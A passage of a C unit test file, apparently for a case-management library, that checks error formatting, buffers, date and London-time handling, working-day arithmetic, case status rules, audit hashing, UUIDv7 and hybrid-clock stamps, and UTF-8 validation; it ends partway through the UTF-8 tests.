/*
 * Unit tests for core: degenerate inputs first, then the real cases.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cmocka.h>
#include <jansson.h>

#include "frontdesk/core.h"

/* ---- an injectable clock ----------------------------------------------- */

static int64_t fake_now;

static int64_t fake_clock(void)
{
	return fake_now;
}

static void set_now(const char *iso)
{
	assert_int_equal(time_parse_utc(iso, &fake_now), STATUS_OK);
	clock_hook = fake_clock;
}

static int teardown_clock(void **state)
{
	(void)state;
	clock_hook = NULL;
	return 0;
}

static struct date D(int y, int m, int d)
{
	struct date x = {y, m, d};
	return x;
}

static void assert_date(struct date got, int y, int m, int d)
{
	char a[16], b[16];

	date_format(got, a, sizeof(a));
	date_format(D(y, m, d), b, sizeof(b));
	assert_string_equal(a, b);
}

/* ---- errors, memory, buffers ------------------------------------------- */

static void test_err_degenerate(void **state)
{
	char out[64];

	(void)state;
	err_clear(NULL);
	assert_int_equal(err_set(NULL, STATUS_INVALID, "x %d", 1), STATUS_INVALID);
	err_at(NULL, "f", 1, 2);
	err_format(NULL, out, sizeof(out));
	assert_string_equal(out, "");
	assert_string_equal(status_message((enum status)999), "unknown status");
	assert_string_equal(status_message(STATUS_TOO_BIG), "input too big");
}

static void test_err_format(void **state)
{
	struct err e;
	char out[ERR_MSG_MAX + ERR_FILE_MAX + 32];

	(void)state;
	err_clear(&e);
	assert_int_equal(e.code, STATUS_OK);
	err_set(&e, STATUS_PARSE, "step '%s' goes nowhere", "confirm");
	err_format(&e, out, sizeof(out));
	assert_string_equal(out, "step 'confirm' goes nowhere");
	err_at(&e, "forms/bins.yaml", 14, 7);
	err_format(&e, out, sizeof(out));
	assert_string_equal(out, "forms/bins.yaml:14:7: step 'confirm' goes nowhere");
	err_at(&e, NULL, 3, 0);
	err_format(&e, out, sizeof(out));
	assert_string_equal(out, "forms/bins.yaml:3: step 'confirm' goes nowhere");
	/* A message built from itself. */
	err_set(&e, STATUS_IO, "again: %s", e.msg);
	assert_string_equal(e.msg, "again: step 'confirm' goes nowhere");
	/* Truncation is safe. */
	err_format(&e, out, 5);
	assert_int_equal(strlen(out), 4);
}

static void test_mem(void **state)
{
	char *s;

	(void)state;
	s = xstrndup("abcdef", 3);
	assert_string_equal(s, "abc");
	free(s);
	s = xasprintf("%s-%05d", "WB2", 417);
	assert_string_equal(s, "WB2-00417");
	free(s);
	s = xmalloc(0);
	free(s);
	s = xstrdup("");
	assert_string_equal(s, "");
	free(s);
}

static void test_buf(void **state)
{
	struct buf b;
	char *s;

	(void)state;
	buf_init(&b, 10);
	assert_string_equal(buf_str(&b), "");
	assert_int_equal(buf_add(&b, NULL, 0), STATUS_OK);
	assert_int_equal(buf_adds(&b, "hello"), STATUS_OK);
	assert_int_equal(buf_printf(&b, "%d", 1234), STATUS_OK);
	assert_string_equal(buf_str(&b), "hello1234");
	/* Passing the cap leaves the buffer as it was. */
	assert_int_equal(buf_adds(&b, "xy"), STATUS_TOO_BIG);
	assert_string_equal(buf_str(&b), "hello1234");
	assert_int_equal(b.len, 9);
	assert_int_equal(buf_printf(&b, "%s", "long text"), STATUS_TOO_BIG);
	assert_string_equal(buf_str(&b), "hello1234");
	assert_int_equal(buf_adds(&b, "!"), STATUS_OK);
	assert_string_equal(buf_str(&b), "hello1234!");
	assert_int_equal(buf_add(&b, "", 0), STATUS_OK);
	assert_int_equal(buf_add(&b, "a", 1), STATUS_TOO_BIG);
	buf_reset(&b);
	assert_string_equal(buf_str(&b), "");
	/* A refused append is remembered, later appends that fit or not, until
	 * a reset: one question covers a run of appends. */
	buf_release(&b);
	buf_init(&b, 4);
	assert_int_equal(buf_status(&b), STATUS_OK);
	assert_int_equal(buf_adds(&b, "toolong"), STATUS_TOO_BIG);
	assert_int_equal(buf_adds(&b, "ok"), STATUS_OK);
	assert_string_equal(buf_str(&b), "ok");
	assert_int_equal(buf_status(&b), STATUS_TOO_BIG);
	buf_reset(&b);
	assert_int_equal(buf_status(&b), STATUS_OK);
	buf_release(&b);
	buf_init(&b, 10);
	/* Adding the buffer's own bytes. */
	buf_adds(&b, "ab");
	assert_int_equal(buf_add(&b, b.data, 2), STATUS_OK);
	assert_string_equal(buf_str(&b), "abab");
	s = buf_detach(&b);
	assert_string_equal(s, "abab");
	free(s);
	assert_null(b.data);
	s = buf_detach(&b);
	assert_string_equal(s, "");
	free(s);
	buf_release(&b);
	buf_release(NULL);

	/* Unlimited (cap 0) grows past the first allocation. */
	buf_init(&b, 0);
	for (int i = 0; i < 1000; i++)
		assert_int_equal(buf_adds(&b, "0123456789"), STATUS_OK);
	assert_int_equal(b.len, 10000);
	buf_release(&b);
}

/* ---- clocks and dates -------------------------------------------------- */

static void test_time_parse_degenerate(void **state)
{
	int64_t ms = 0;

	(void)state;
	assert_int_equal(time_parse_utc(NULL, &ms), STATUS_INVALID);
	assert_int_equal(time_parse_utc("", &ms), STATUS_INVALID);
	assert_int_equal(time_parse_utc("2026-03-29", &ms), STATUS_INVALID);
	assert_int_equal(time_parse_utc("2026-03-29T00:30:00", &ms), STATUS_INVALID);
	assert_int_equal(time_parse_utc("2026-03-29T00:30:00+01:00", &ms), STATUS_INVALID);
	assert_int_equal(time_parse_utc("2026-03-29 00:30:00Z", &ms), STATUS_INVALID);
	assert_int_equal(time_parse_utc("2026-02-30T00:30:00Z", &ms), STATUS_INVALID);
	assert_int_equal(time_parse_utc("2026-03-29T24:00:00Z", &ms), STATUS_INVALID);
	assert_int_equal(time_parse_utc("2026-03-29T00:30:00.12Z", &ms), STATUS_INVALID);
	assert_int_equal(time_parse_utc("2026-03-29T00:30:00Zjunk", &ms), STATUS_INVALID);
}

static void test_time_roundtrip(void **state)
{
	int64_t ms;
	char out[32];

	(void)state;
	assert_int_equal(time_parse_utc("1970-01-01T00:00:00Z", &ms), STATUS_OK);
	assert_int_equal(ms, 0);
	assert_int_equal(time_parse_utc("2026-11-22T10:02:49.123Z", &ms), STATUS_OK);
	time_format_utc(ms, out, sizeof(out));
	assert_string_equal(out, "2026-11-22T10:02:49.123Z");
	time_format_utc(-1, out, sizeof(out));
	assert_string_equal(out, "1969-12-31T23:59:59.999Z");
	assert_int_equal(time_parse_utc("2024-02-29T23:59:59Z", &ms), STATUS_OK);
	time_format_utc(ms + 1000, out, sizeof(out));
	assert_string_equal(out, "2024-03-01T00:00:00.000Z");
	/* too small a buffer: cut short as snprintf cuts, never overrun */
	time_format_utc(ms, out, 20);
	assert_string_equal(out, "2024-02-29T23:59:59");
}

static void test_clock_env(void **state)
{
	(void)state;
	clock_hook = NULL;
	setenv("FRONTDESK_NOW", "2026-03-29T00:30:00Z", 1);
	assert_int_equal(clock_now_ms(), INT64_C(1774744200000));
	assert_date(date_today_london(), 2026, 3, 29);
	unsetenv("FRONTDESK_NOW");
	/* Real time is after this test was written. */
	assert_true(clock_now_ms() > INT64_C(1735689600000));
	set_now("2030-01-01T00:00:00Z");
	assert_int_equal(clock_now_ms(), fake_now);
}

static void test_date_parse(void **state)
{
	struct err e;
	struct date d;

	(void)state;
	err_clear(&e);
	assert_int_equal(date_parse(NULL, &d, "moved on", &e), STATUS_INVALID);
	assert_non_null(strstr(e.msg, "moved on is empty"));
	assert_int_equal(date_parse("", &d, "moved on", &e), STATUS_INVALID);
	assert_int_equal(date_parse("2025-2-1", &d, "moved on", &e), STATUS_INVALID);
	assert_non_null(strstr(e.msg, "moved on '2025-2-1' is not a date; write it as YYYY-MM-DD"));
	assert_int_equal(date_parse("2025-02-01x", &d, NULL, &e), STATUS_INVALID);
	assert_int_equal(date_parse("２０２５-02-01", &d, NULL, &e), STATUS_INVALID);
	assert_int_equal(date_parse("2025-02-29", &d, "moved on", &e), STATUS_INVALID);
	assert_non_null(strstr(e.msg, "'2025-02-29' is not a real date"));
	assert_int_equal(date_parse("2025-13-01", &d, "moved on", &e), STATUS_INVALID);
	assert_int_equal(date_parse("2025-00-10", &d, "moved on", &e), STATUS_INVALID);
	assert_int_equal(date_parse("2025-04-31", &d, "moved on", &e), STATUS_INVALID);
	assert_int_equal(date_parse("0000-01-01", &d, "moved on", &e), STATUS_INVALID);
	assert_int_equal(date_parse("1900-02-29", &d, "moved on", &e), STATUS_INVALID);

	assert_int_equal(date_parse("2024-02-29", &d, "moved on", NULL), STATUS_OK);
	assert_date(d, 2024, 2, 29);
	assert_int_equal(date_parse("2000-02-29", &d, "moved on", NULL), STATUS_OK);
	assert_int_equal(date_parse("2025-12-31", &d, NULL, NULL), STATUS_OK);
	assert_date(d, 2025, 12, 31);
}

/* Dates as UK people type them, and the ISO form. */
static void test_date_parse_uk(void **state)
{
	struct err e;
	struct date d;

	(void)state;
	err_clear(&e);
	assert_int_equal(date_parse_uk(NULL, &d, "From", &e), STATUS_INVALID);
	assert_string_equal(e.msg, "From is empty; write the date like 25/12/2025 or 2025-12-25");
	assert_int_equal(date_parse_uk("", &d, "From", &e), STATUS_INVALID);
	assert_int_equal(date_parse_uk("31/02/2026", &d, "From", &e), STATUS_INVALID);
	assert_string_equal(e.msg, "From '31/02/2026' is not a date; write it like 25/12/2025 or "
				   "2025-12-25");
	assert_int_equal(date_parse_uk("2026-02-31", &d, "To", &e), STATUS_INVALID);
	assert_string_equal(e.msg, "To '2026-02-31' is not a date; write it like 25/12/2025 or "
				   "2025-12-25");
	assert_int_equal(date_parse_uk("12/2026", &d, NULL, &e), STATUS_INVALID);
	assert_int_equal(date_parse_uk("1/1/26", &d, NULL, &e), STATUS_INVALID);
	assert_int_equal(date_parse_uk("001/01/2026", &d, NULL, &e), STATUS_INVALID);
	assert_int_equal(date_parse_uk("01/01/20261", &d, NULL, &e), STATUS_INVALID);
	assert_int_equal(date_parse_uk("01-01-2026", &d, NULL, &e), STATUS_INVALID);
	assert_int_equal(date_parse_uk("0/1/2026", &d, NULL, &e), STATUS_INVALID);
	assert_int_equal(date_parse_uk("25/12/2026 ", &d, NULL, &e), STATUS_INVALID);
	assert_int_equal(date_parse_uk("29/02/2025", &d, NULL, &e), STATUS_INVALID);

	assert_int_equal(date_parse_uk("25/12/2026", &d, "From", NULL), STATUS_OK);
	assert_date(d, 2026, 12, 25);
	assert_int_equal(date_parse_uk("1/3/2026", &d, "From", NULL), STATUS_OK);
	assert_date(d, 2026, 3, 1); /* day first, as written here */
	assert_int_equal(date_parse_uk("29.02.2024", &d, "From", NULL), STATUS_OK);
	assert_date(d, 2024, 2, 29);
	assert_int_equal(date_parse_uk("2026-11-16", &d, "From", NULL), STATUS_OK);
	assert_date(d, 2026, 11, 16);
}

static void test_date_arith(void **state)
{
	char out[16];

	(void)state;
	assert_true(date_valid(D(2024, 2, 29)));
	assert_false(date_valid(D(2025, 2, 29)));
	assert_false(date_valid(D(2025, 13, 1)));
	assert_int_equal(date_to_days(D(1970, 1, 1)), 0);
	assert_int_equal(date_to_days(D(2000, 3, 1)), 11017);
	assert_date(date_from_days(-1), 1969, 12, 31);
	for (int64_t n = -800000; n < 800000; n += 997)
		assert_int_equal(date_to_days(date_from_days(n)), n);
	assert_int_equal(date_weekday(D(1970, 1, 1)), 4);
	assert_int_equal(date_weekday(D(2025, 12, 19)), 5);
	assert_int_equal(date_weekday(D(2026, 3, 29)), 7);
	assert_int_equal(date_weekday(D(2026, 3, 30)), 1);
	assert_true(date_cmp(D(2025, 1, 2), D(2025, 1, 3)) < 0);
	assert_true(date_cmp(D(2026, 1, 1), D(2025, 12, 31)) > 0);
	assert_int_equal(date_cmp(D(2025, 1, 2), D(2025, 1, 2)), 0);
	date_format(D(987, 6, 5), out, sizeof(out));
	assert_string_equal(out, "0987-06-05");
	/* outside four digits, or too small a buffer: as snprintf writes it */
	date_format(D(-1, 1, 1), out, sizeof(out));
	assert_string_equal(out, "-001-01-01");
	date_format(D(12026, 1, 1), out, sizeof(out));
	assert_string_equal(out, "12026-01-01");
	date_format(D(2026, 11, 22), out, 8);
	assert_string_equal(out, "2026-11");
}

static struct date london(const char *iso)
{
	int64_t ms;

	assert_int_equal(time_parse_utc(iso, &ms), STATUS_OK);
	return date_of_ms_london(ms);
}

/* The London wall clock: GMT in winter, BST in summer, on both changes. */
static void test_london_time(void **state)
{
	static const struct {
		const char *utc, *london;
	} cases[] = {
		{ "2026-11-18T10:00:00Z", "2026-11-18 10:00" },
		{ "2026-03-29T00:59:59Z", "2026-03-29 00:59" },
		{ "2026-03-29T01:00:00Z", "2026-03-29 02:00" },
		{ "2026-03-29T23:30:00Z", "2026-03-30 00:30" },
		{ "2026-07-01T10:00:00Z", "2026-07-01 11:00" },
		{ "2026-10-25T00:59:00Z", "2026-10-25 01:59" },
		{ "2026-10-25T01:00:00Z", "2026-10-25 01:00" },
		{ "2026-12-31T23:59:59Z", "2026-12-31 23:59" },
		{ "1969-12-31T23:59:00Z", "1969-12-31 23:59" },
	};
	char out[32];
	int64_t ms;

	(void)state;
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		assert_int_equal(time_parse_utc(cases[i].utc, &ms), STATUS_OK);
		time_format_london(ms, out, sizeof out);
		assert_string_equal(out, cases[i].london);
	}
}

static void test_london_day(void **state)
{
	(void)state;
	/* Spring forward: 2026-03-29 01:00Z. */
	assert_date(london("2026-03-29T00:30:00Z"), 2026, 3, 29);
	assert_date(london("2026-03-28T23:30:00Z"), 2026, 3, 28);
	assert_date(london("2026-03-29T23:30:00Z"), 2026, 3, 30);
	/* Fall back: 2026-10-25 01:00Z. */
	assert_date(london("2026-10-24T23:30:00Z"), 2026, 10, 25);
	assert_date(london("2026-10-25T00:59:59.999Z"), 2026, 10, 25);
	assert_date(london("2026-10-25T23:30:00Z"), 2026, 10, 25);
	/* Winter: London is UTC. */
	assert_date(london("2025-12-31T23:59:59Z"), 2025, 12, 31);
	/* Summer 2025 (last Sundays 30 March, 26 October). */
	assert_date(london("2025-03-30T00:59:00Z"), 2025, 3, 30);
	assert_date(london("2025-07-01T23:00:00Z"), 2025, 7, 2);
	assert_date(london("2025-10-25T23:00:00Z"), 2025, 10, 26);
	assert_date(london("2025-10-26T23:00:00Z"), 2025, 10, 26);

	set_now("2026-10-24T23:30:00Z");
	assert_date(date_today_london(), 2026, 10, 25);
}

static void test_working_days(void **state)
{
	struct date hol[] = {{2025, 12, 25}, {2025, 12, 26}, {2026, 1, 1}};

	(void)state;
	/* Degenerate: no days, no holidays list. */
	assert_date(date_add_working_days(D(2025, 12, 19), 0, NULL, 0), 2025, 12, 19);
	assert_date(date_add_working_days(D(2025, 12, 19), 1, NULL, 0), 2025, 12, 22);
	assert_date(date_add_working_days(D(2025, 12, 20), 1, NULL, 0), 2025, 12, 22);
	assert_date(date_add_working_days(D(2025, 12, 21), 1, NULL, 0), 2025, 12, 22);
	/* Friday 19 December + 5 with Christmas and Boxing Day off. */
	assert_date(date_add_working_days(D(2025, 12, 19), 5, hol, 3), 2025, 12, 30);
	assert_date(date_add_working_days(D(2025, 12, 19), 5, NULL, 0), 2025, 12, 26);
	assert_date(date_add_working_days(D(2025, 12, 19), 8, hol, 3), 2026, 1, 5);
	assert_date(date_add_working_days(D(2025, 12, 24), 1, hol, 3), 2025, 12, 29);
	/* Backwards. */
	assert_date(date_add_working_days(D(2025, 12, 29), -1, hol, 3), 2025, 12, 24);
	/* Ten working days, two weekends. */
	assert_date(date_add_working_days(D(2026, 3, 2), 10, NULL, 0), 2026, 3, 16);
}

/* ---- case rules --------------------------------------------------------- */

static void test_working_days_between(void **state)
{
	/* Sorted, with a duplicate and a weekend holiday (Sat 27 Dec 2025). */
	struct date hol[] = {{2025, 12, 25}, {2025, 12, 26}, {2025, 12, 26}, {2025, 12, 27},
			     {2026, 1, 1}};

	(void)state;
	/* Degenerate: the same day, backwards, no holidays list. */
	assert_int_equal(date_working_days_between(D(2025, 12, 19), D(2025, 12, 19), hol, 5), 0);
	assert_int_equal(date_working_days_between(D(2025, 12, 22), D(2025, 12, 19), hol, 5), 0);
	assert_int_equal(date_working_days_between(D(2025, 12, 19), D(2025, 12, 22), NULL, 0), 1);
	/* Friday to Monday across a weekend: the Monday only. */
	assert_int_equal(date_working_days_between(D(2025, 12, 19), D(2025, 12, 22), hol, 5), 1);
	/* Saturday to Sunday: none. */
	assert_int_equal(date_working_days_between(D(2025, 12, 20), D(2025, 12, 21), hol, 5), 0);
	/* Across Christmas: 22, 23, 24, 29, 30, 31 Dec and 2 Jan (1 Jan off). */
	assert_int_equal(date_working_days_between(D(2025, 12, 19), D(2026, 1, 2), hol, 5), 7);
	assert_int_equal(date_working_days_between(D(2025, 12, 19), D(2026, 1, 2), NULL, 0), 10);
	/* The inverse of date_add_working_days over holidays and weekends. */
	for (int n = 0; n < 30; n++)
		assert_int_equal(date_working_days_between(
					 D(2025, 12, 19),
					 date_add_working_days(D(2025, 12, 19), n, hol, 5), hol, 5),
				 n);
}

static void test_case_transitions(void **state)
{
	struct err e;

	(void)state;
	/* Degenerate: a status out of range, a NULL reference. */
	assert_int_equal(case_change_check("AB1-00001", (enum case_status)-1, CASE_OPEN, NULL, &e),
			 STATUS_INVALID);
	assert_int_equal(case_change_check("AB1-00001", CASE_OPEN, CASE_STATUS_COUNT, NULL, &e),
			 STATUS_INVALID);
	assert_int_equal(case_change_check(NULL, CASE_CLOSED, CASE_OPEN, NULL, NULL),
			 STATUS_DENIED);
	/* Every transition: from each status to each status. */
	for (int from = 0; from < CASE_STATUS_COUNT; from++)
		for (int to = 0; to < CASE_STATUS_COUNT; to++) {
			enum status want = from == CASE_CLOSED ? STATUS_DENIED : STATUS_OK;

			err_clear(&e);
			assert_int_equal(case_change_check("AB1-00001", (enum case_status)from,
							   (enum case_status)to, "Sorted", &e),
					 want);
			if (want == STATUS_DENIED)
				assert_string_equal(e.msg,
						    "case AB1-00001 is closed and cannot change; raise "
						    "a new referral if more is needed");
		}
	/* Closing needs a result: none, empty, blank, too long, a bad one. */
	assert_int_equal(case_change_check("AB1-00001", CASE_OPEN, CASE_CLOSED, NULL, &e),
			 STATUS_INVALID);
	assert_string_equal(e.msg, "closing a case needs a result: say what was done");
	assert_int_equal(case_change_check("AB1-00001", CASE_IN_PROGRESS, CASE_CLOSED, "", &e),
			 STATUS_INVALID);
	assert_int_equal(case_change_check("AB1-00001", CASE_IN_PROGRESS, CASE_CLOSED, "   ", &e),
			 STATUS_INVALID);
	{
		char *long_result = xcalloc(REASON_MAX_CHARS + 2, 1);

		memset(long_result, 'x', REASON_MAX_CHARS + 1);
		assert_int_equal(case_change_check("AB1-00001", CASE_OPEN, CASE_CLOSED, long_result,
						   &e),
				 STATUS_INVALID);
		free(long_result);
	}
	assert_int_equal(case_change_check("AB1-00001", CASE_OPEN, CASE_CLOSED, "bad\001", &e),
			 STATUS_INVALID);
	/* Other changes need no result. */
	assert_int_equal(case_change_check("AB1-00001", CASE_OPEN, CASE_AWAITING_CUSTOMER, NULL,
					   &e),
			 STATUS_OK);
	/* A pause ends only when the case leaves awaiting-customer. */
	for (int from = 0; from < CASE_STATUS_COUNT; from++)
		for (int to = 0; to < CASE_STATUS_COUNT; to++)
			assert_int_equal(case_pause_ends((enum case_status)from,
							 (enum case_status)to),
					 from == CASE_AWAITING_CUSTOMER &&
						 to != CASE_AWAITING_CUSTOMER);
}

static void test_case_pause(void **state)
{
	/* Monday 3 May 2027 is a bank holiday. */
	struct date hol[] = {{2027, 5, 3}, {2027, 5, 31}};
	struct date due = D(2027, 5, 6);
	long paused = 0;

	(void)state;
	/* Paused and resumed the same day: nothing moves. */
	assert_int_equal(case_pause_end(D(2027, 4, 30), D(2027, 4, 30), hol, 2, &due, &paused), 0);
	assert_date(due, 2027, 5, 6);
	assert_int_equal(paused, 0);
	/* Paused Friday 30 April, resumed Wednesday 5 May: the weekend and the
	 * holiday do not count, Tuesday and Wednesday do; due Thursday 6 May
	 * moves on 2 working days to Monday 10 May, across the weekend. */
	assert_int_equal(case_pause_end(D(2027, 4, 30), D(2027, 5, 5), hol, 2, &due, &paused), 2);
	assert_date(due, 2027, 5, 10);
	assert_int_equal(paused, 2);
	/* A second pause adds on: Friday 28 May to Tuesday 1 June (31 May a
	 * holiday): 1 day; due 10 May + 1 = 11 May. */
	assert_int_equal(case_pause_end(D(2027, 5, 28), D(2027, 6, 1), hol, 2, &due, &paused), 1);
	assert_date(due, 2027, 5, 11);
	assert_int_equal(paused, 3);
	/* Over a weekend only: Friday to Sunday, nothing. */
	assert_int_equal(case_pause_end(D(2027, 6, 4), D(2027, 6, 6), hol, 2, &due, &paused), 0);
	assert_date(due, 2027, 5, 11);
	/* Overdue: open and in progress only, the day after the due date. */
	assert_false(case_overdue(CASE_OPEN, D(2027, 5, 11), D(2027, 5, 11)));
	assert_true(case_overdue(CASE_OPEN, D(2027, 5, 11), D(2027, 5, 12)));
	assert_true(case_overdue(CASE_IN_PROGRESS, D(2027, 5, 11), D(2027, 5, 12)));
	assert_false(case_overdue(CASE_AWAITING_CUSTOMER, D(2027, 5, 11), D(2027, 5, 12)));
	assert_false(case_overdue(CASE_CLOSED, D(2027, 5, 11), D(2027, 5, 12)));
}

static void test_audit_hash(void **state)
{
	char h1[AUDIT_HASH_HEX + 1], h2[AUDIT_HASH_HEX + 1];
	struct audit_row r = {
		.seq = 1,
		.device_id = "01900000-0000-7000-8000-000000000001",
		.at = "2026-11-20T10:00:00.000Z",
		.actor = "cli:root",
		.action = "customer.add",
		.record_type = "customer",
		.record_id = NULL,
		.detail = NULL,
		.prev_hash = AUDIT_ZERO_HASH,
	};

	(void)state;
	audit_hash_row(&r, h1);
	assert_int_equal(strlen(h1), AUDIT_HASH_HEX);
	audit_hash_row(&r, h2);
	assert_string_equal(h1, h2);
	/* NULL and "" differ; every field counts, the seq too. */
	r.detail = "";
	audit_hash_row(&r, h2);
	assert_string_not_equal(h1, h2);
	r.detail = NULL;
	r.seq = 2;
	audit_hash_row(&r, h2);
	assert_string_not_equal(h1, h2);
}

/* ---- ids --------------------------------------------------------------- */

static void test_uuid(void **state)
{
	char a[UUID_STR_LEN + 1], b[UUID_STR_LEN + 1];

	(void)state;
	assert_false(uuid_valid(NULL));
	assert_false(uuid_valid(""));
	assert_false(uuid_valid("0190a4b2-7c3d-7e4f-8a1b-2c3d4e5f6a7"));
	assert_false(uuid_valid("0190a4b2-7c3d-7e4f-8a1b-2c3d4e5f6a7bc"));
	assert_false(uuid_valid("0190a4b2x7c3d-7e4f-8a1b-2c3d4e5f6a7b"));
	assert_false(uuid_valid("0190a4b2-7c3d-7e4f-8a1b-2c3d4e5f6a7g"));
	assert_false(uuid_valid("0190A4B2-7C3D-7E4F-8A1B-2C3D4E5F6A7B"));
	assert_true(uuid_valid("0190a4b2-7c3d-7e4f-8a1b-2c3d4e5f6a7b"));

	set_now("2026-03-29T00:30:00Z");
	uuid_v7(a);
	assert_true(uuid_valid(a));
	assert_int_equal(strlen(a), UUID_STR_LEN);
	assert_int_equal(a[14], '7');
	assert_non_null(strchr("89ab", a[19]));
	/* The first 48 bits are the milliseconds. */
	assert_memory_equal(a, "019d36ff-6340", 13);
	/* Time order, and strict order within one millisecond. */
	for (int i = 0; i < 5000; i++) {
		uuid_v7(b);
		assert_true(strcmp(a, b) < 0);
		memcpy(a, b, sizeof(a));
	}
	fake_now += 1;
	uuid_v7(b);
	assert_true(strcmp(a, b) < 0);
	/* The clock going back does not reorder ids. */
	fake_now -= 60000;
	uuid_v7(a);
	assert_true(strcmp(b, a) < 0);
	fake_now += 3600000;
	uuid_v7(b);
	assert_true(strcmp(a, b) < 0);
	/* Random bits are drawn a page at a time: a forked child must not
	 * hand out the bytes its parent will (the same ids on two sides). */
	{
		int fds[2];
		pid_t pid;
		char child[UUID_STR_LEN + 1] = "";

		assert_int_equal(pipe(fds), 0);
		pid = fork();
		assert_true(pid >= 0);
		if (pid == 0) {
			uuid_v7(a);
			_exit(write(fds[1], a, UUID_STR_LEN) == UUID_STR_LEN ? 0 : 1);
		}
		uuid_v7(b);
		assert_int_equal(read(fds[0], child, UUID_STR_LEN), UUID_STR_LEN);
		assert_int_equal(waitpid(pid, NULL, 0), pid);
		close(fds[0]);
		close(fds[1]);
		assert_true(uuid_valid(child));
		/* the last 64 bits are random in both */
		assert_true(memcmp(child + 19, b + 19, 17) != 0);
	}
}

static void test_hlc_parse(void **state)
{
	struct hlc h;
	char node[40];

	(void)state;
	assert_int_equal(hlc_parse(NULL, &h, NULL, 0), STATUS_INVALID);
	assert_int_equal(hlc_parse("", &h, NULL, 0), STATUS_INVALID);
	/* Truncated stamps (a fuzzer found the second read past its end). */
	assert_int_equal(hlc_parse("1767225600000", &h, NULL, 0), STATUS_INVALID);
	assert_int_equal(hlc_parse("1767225600000-", &h, NULL, 0), STATUS_INVALID);
	assert_int_equal(hlc_parse("1767225600000-00", &h, NULL, 0), STATUS_INVALID);
	assert_int_equal(hlc_parse("1774744200000-0001-", &h, NULL, 0), STATUS_INVALID);
	assert_int_equal(hlc_parse("1774744200000-001-hub", &h, NULL, 0), STATUS_INVALID);
	assert_int_equal(hlc_parse("177474420000-0001-hub", &h, NULL, 0), STATUS_INVALID);
	assert_int_equal(hlc_parse("1774744200000-00G1-hub", &h, NULL, 0), STATUS_INVALID);
	assert_int_equal(hlc_parse("1774744200000-0001-hub 1", &h, NULL, 0), STATUS_INVALID);
	assert_int_equal(hlc_parse("1774744200000-0001-"
				   "0123456789012345678901234567890123456789",
				   &h, NULL, 0),
			 STATUS_INVALID);
	assert_int_equal(hlc_parse("1774744200000-00ff-wb2-hub", &h, node, 3), STATUS_TOO_BIG);

	assert_int_equal(hlc_parse("1774744200000-00ff-wb2-hub", &h, node, sizeof(node)),
			 STATUS_OK);
	assert_int_equal(h.wall_ms, INT64_C(1774744200000));
	assert_int_equal(h.counter, 255);
	assert_string_equal(node, "wb2-hub");
}

static void test_hlc_tick(void **state)
{
	struct hlc h = {0, 0};
	char s1[HLC_STR_MAX], s2[HLC_STR_MAX];

	(void)state;
	set_now("2026-03-29T00:30:00Z");
	hlc_tick(&h, "wb2", s1);
	assert_string_equal(s1, "1774744200000-0000-wb2");
	hlc_tick(&h, "wb2", s2);
	assert_string_equal(s2, "1774744200000-0001-wb2");
	assert_true(strcmp(s1, s2) < 0);
	/* The wall clock goes back an hour: stamps still go forward. */
	fake_now -= 3600000;
	memcpy(s1, s2, sizeof(s1));
	for (int i = 0; i < 10; i++) {
		hlc_tick(&h, "wb2", s2);
		assert_true(strcmp(s1, s2) < 0);
		memcpy(s1, s2, sizeof(s1));
	}
	assert_string_equal(s2, "1774744200000-000b-wb2");
	/* The counter carries into the wall time instead of overflowing. */
	h.counter = 0xffff;
	hlc_tick(&h, "wb2", s2);
	assert_string_equal(s2, "1774744200001-0000-wb2");
	assert_true(strcmp(s1, s2) < 0);
	/* Real time catching up resets the counter. */
	fake_now += 7200000;
	hlc_tick(&h, "wb2", s2);
	assert_int_equal(h.wall_ms, fake_now);
	assert_int_equal(h.counter, 0);
	/* Written by hand: zero padding, hex letters, the longest node. */
	fake_now = 42;
	h = (struct hlc){ 0, 0 };
	hlc_tick(&h, "a", s2);
	assert_string_equal(s2, "0000000000042-0000-a");
	h.counter = 0xabcc;
	hlc_tick(&h, "node.with_every-kind.of.char.0123456789", s2);
	assert_string_equal(s2, "0000000000042-abcd-node.with_every-kind.of.char.0123456789");
}

static void test_hlc_observe(void **state)
{
	struct hlc h = {0, 0};
	struct err e;
	char s[HLC_STR_MAX];

	(void)state;
	err_clear(&e);
	set_now("2026-03-29T00:30:00Z");
	assert_int_equal(hlc_observe(&h, NULL, &e), STATUS_INVALID);
	assert_int_equal(hlc_observe(&h, "garbage", &e), STATUS_INVALID);
	assert_non_null(strstr(e.msg, "'garbage' is not a clock stamp"));
	assert_int_equal(h.wall_ms, 0);
	assert_int_equal(hlc_observe(&h, "9999999999999-ffff-bad", &e), STATUS_INVALID);
	assert_non_null(strstr(e.msg, "wrong clock"));
	assert_int_equal(h.wall_ms, 0);

	hlc_tick(&h, "wb2", s);
	/* A remote stamp from a hub whose clock is ahead. */
	assert_int_equal(hlc_observe(&h, "1774744260000-0005-hub7", &e), STATUS_OK);
	assert_int_equal(h.wall_ms, INT64_C(1774744260000));
	assert_int_equal(h.counter, 6);
	hlc_tick(&h, "wb2", s);
	assert_string_equal(s, "1774744260000-0007-wb2");
	assert_true(strcmp("1774744260000-0005-hub7", s) < 0);
	/* Same wall time: the larger counter wins, plus one. */
	assert_int_equal(hlc_observe(&h, "1774744260000-0010-hub7", NULL), STATUS_OK);
	assert_int_equal(h.counter, 0x11);
	/* An older remote stamp only moves the counter. */
	assert_int_equal(hlc_observe(&h, "1774744000000-0099-hub7", NULL), STATUS_OK);
	assert_int_equal(h.wall_ms, INT64_C(1774744260000));
	assert_int_equal(h.counter, 0x12);
	/* Local time ahead of both: counter resets. */
	fake_now = INT64_C(1774744300000);
	assert_int_equal(hlc_observe(&h, "1774744260000-0010-hub7", NULL), STATUS_OK);
	assert_int_equal(h.wall_ms, fake_now);
	assert_int_equal(h.counter, 0);
}

/* ---- text -------------------------------------------------------------- */

static void test_utf8(void **state)
{
	(void)state;
	assert_true(utf8_valid(NULL, 0));
	assert_false(utf8_valid(NULL, 1));
	assert_true(utf8_valid("", 0));
	assert_true(utf8_valid("Zoë Łukasz Nguyễn عائشة 😀", strlen("Zoë Łukasz Nguyễn عائشة 😀")));
	assert_false(utf8_valid("\xc3", 1));           /* cut short */
	assert_false(utf8_valid("\xc0\xaf", 2));       /* overlong / */
	assert_false(utf8_valid("\xe0\x80\xaf", 3));   /* overlong */
	assert_false(utf8_valid("\xed\xa0\x80", 3));   /* surrogate */
	assert_false(utf8_valid("\xf4\x90\x80\x80", 4)); /* past U+10FFFF */
